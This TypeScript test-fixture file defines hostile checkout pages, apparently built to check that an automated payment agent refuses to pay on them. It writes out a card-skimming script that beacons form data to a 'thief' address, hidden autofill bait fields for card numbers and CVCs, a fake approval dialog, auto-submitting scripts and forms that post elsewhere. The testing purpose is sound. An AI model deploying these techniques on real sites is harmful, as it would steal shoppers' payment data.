import { html } from 'hono/html';
import { payByCard } from '../zoo/desk.ts';
import { makeHostileShop, moveOnWord, onTyping } from './hostile-shop.ts';
import { tellThief } from './thief-shop.ts';

const bait = (name: string, token: string, style: string): string =>
  `<input name="bait-${name}" autocomplete="${token}" style="${style}" tabindex="-1">`;

const BAITS = [
  bait('aside', 'cc-csc', 'position:absolute;left:-9999px'),
  bait('nothing', 'cc-number', 'width:0;height:0;padding:0;border:0'),
  bait('clear', 'tel', 'opacity:0'),
  bait('hidden', 'bday', 'visibility:hidden'),
  bait('clipped', 'cc-number', 'position:absolute;clip-path:inset(100%)'),
  bait('gone', 'street-address', 'display:none'),
  `<div aria-hidden="true">${bait('silent', 'cc-csc', '')}</div>`,
  `<div style="overflow:hidden;height:0">${bait('folded', 'email', '')}</div>`,
  '<input type="hidden" name="bait-unseen" autocomplete="cc-number">',
].join('');

/** Sends what stands in the fields to an address, as scripts that skim cards do. */
const skim = (to: string): string =>
  `form.addEventListener('input', () => {
    if (by('cardNumber').value.length > 11 && by('cvc').value.length > 2)
      navigator.sendBeacon('${to}', new URLSearchParams(new FormData(form)));
  })`;

/** Fields that lie about what they are, cannot be seen, or are read while they are typed into. */
export const fieldShops = [
  makeHostileShop(
    {
      key: 'a1-faded',
      threat: 'A1',
      what: 'everything but the price is faded out',
      ending: 'failed no_checkout',
    },
    { first: () => '<style>form { opacity: .01 }</style>' },
  ),
  makeHostileShop(
    { key: 'a2-clipped', threat: 'A2', what: 'the form is clipped away', ending: 'failed no_checkout' },
    { first: () => '<style>form { clip-path: inset(100%) }</style>' },
  ),
  makeHostileShop(
    { key: 'a3-covered', threat: 'A3', what: 'a curtain over the form', ending: 'wall unsupported_widget' },
    {
      first: () =>
        '<div style="position:fixed;inset:0;background:#fff;z-index:2147483647">One moment, please</div>',
    },
  ),
  makeHostileShop(
    {
      key: 'a4-dialogs',
      threat: 'A4',
      what: 'a dialog of the page comes back every 20 ms',
      ending: 'wall unsupported_widget',
    },
    {
      first: () => '<dialog id="front" style="inset:0;width:100vw;height:100vh">Look here</dialog>',
      script: () =>
        `setInterval(() => { by('front').open && by('front').close(); by('front').showModal(); }, 20)`,
    },
  ),
  makeHostileShop(
    {
      key: 'a8-false-hands',
      threat: 'A8, A10',
      what: 'presses Pay itself once the card is typed, and draws an approval of its own',
      ending: 'failed page_changed',
      takesWhatIsTyped: true,
    },
    {
      first: () =>
        '<div role="dialog"><p>Countersign: pay $5.00?</p><button type="button">Approve</button></div>',
      script: () => onTyping('cvc', `setTimeout(() => form.requestSubmit(), 50)`),
    },
  ),
  makeHostileShop(
    {
      key: 'a8-restless-hands',
      threat: 'A8',
      what: 'presses Pay itself while the operator looks at the preview',
      ending: 'asked again',
      movesAfterPreview: true,
      takesWhatIsTyped: true,
    },
    // Once: the form that comes back would press itself for ever.
    { script: () => moveOnWord(`sessionStorage.once ||= (form.requestSubmit(), 'pressed')`) },
  ),
  makeHostileShop(
    { key: 'b1-baits', threat: 'B1', what: 'fields that nobody can see', ending: 'receipt' },
    { inside: () => BAITS },
  ),
  makeHostileShop(
    {
      key: 'b2-swapped',
      threat: 'B2',
      what: 'a field becomes another one',
      ending: 'wall unsupported_widget',
    },
    { script: () => onTyping('cardNumber', `by('cvc').name = 'bait-note'`) },
  ),
  makeHostileShop(
    { key: 'b2-moved', threat: 'B2', what: 'a field moves out of sight', ending: 'wall unsupported_widget' },
    { script: () => onTyping('cardNumber', `by('cvc').style.cssText = 'position:absolute;left:-9999px'`) },
  ),
  makeHostileShop(
    {
      key: 'b3-mislabelled',
      threat: 'B3',
      what: 'says coupon, and means the card number',
      ending: 'wall unsupported_widget',
    },
    {
      card: () =>
        html`<label for="cardName">Name on card</label><input id="cardName" name="cardName" />
          <label for="bait">Coupon code</label
          ><input id="bait" name="bait-coupon" autocomplete="cc-number" />
          <label for="expiry">Expiry date</label><input id="expiry" name="expiry" placeholder="MM/YY" />
          <label for="cvc">Security code</label><input id="cvc" name="cvc" maxlength="4" />`,
    },
  ),
  makeHostileShop(
    {
      key: 'b4-twice',
      threat: 'B4',
      what: 'two fields for one card number',
      ending: 'wall unsupported_widget',
    },
    {
      inside: () =>
        '<label for="second">Card number</label><input id="second" name="bait-second" autocomplete="cc-number">',
    },
  ),
  makeHostileShop(
    {
      key: 'b5-notes',
      threat: 'B5',
      what: 'a search box and a note that pose as card fields',
      ending: 'wall unsupported_widget',
    },
    {
      card: () =>
        html`<label for="bait">Search the card number</label
          ><input id="bait" type="search" name="bait-search" placeholder="Search" />
          <label for="note">Card security code or a note</label
          ><textarea id="note" name="bait-note"></textarea>`,
    },
  ),
  makeHostileShop(
    {
      key: 'b6-action',
      threat: 'B6',
      what: 'posts the card to another site',
      ending: 'failed form_posts_elsewhere',
    },
    { form: ({ world }) => `method="post" action="${world.addresses().shopAt('thief')}/steal"` },
  ),
  makeHostileShop(
    {
      key: 'b6-button',
      threat: 'B6',
      what: 'the button posts elsewhere',
      ending: 'failed form_posts_elsewhere',
    },
    {
      script: ({ world }) =>
        `by('pay').setAttribute('formaction', '${world.addresses().shopAt('thief')}/steal')`,
    },
  ),
  makeHostileShop(
    {
      key: 'b6-base',
      threat: 'B6',
      what: 'a base address of another site',
      ending: 'failed form_posts_elsewhere',
    },
    { first: ({ world }) => `<base href="${world.addresses().shopAt('thief')}/">` },
  ),
  makeHostileShop(
    {
      key: 'b6-script',
      threat: 'B6',
      what: 'an action that is a script',
      ending: 'failed form_posts_elsewhere',
    },
    { form: () => `method="post" action="javascript:fetch('/checkout')"` },
  ),
  makeHostileShop(
    {
      key: 'b7-reader',
      threat: 'B7',
      what: 'charges what it reads before anybody approved',
      ending: 'receipt',
      takesWhatIsTyped: true,
    },
    {
      script: () => skim('/early'),
      routes: (app, desk) =>
        app.post('/early', async (c) => {
          const form = Object.fromEntries(new URLSearchParams(await c.req.text()));
          const [month = '', year = ''] = (form.expiry ?? '').split('/');
          const card = {
            number: form.cardNumber ?? '',
            month: month.trim(),
            year: year.trim(),
            cvc: form.cvc ?? '',
          };
          await payByCard(desk, card, { email: '', total: 100 });
          return c.body(null, 204);
        }),
    },
  ),
  makeHostileShop(
    {
      key: 'b8-skimmer',
      threat: 'B8',
      what: 'a script sends the card to another site, which pays with it',
      ending: 'receipt',
      takesWhatIsTyped: true,
    },
    {
      script: ({ world }) => skim(`${world.addresses().shopAt('thief')}/steal`),
      async charge(desk, card, payment) {
        const answer = await payByCard(desk, card, payment);
        await tellThief(desk);
        return answer;
      },
    },
  ),
];
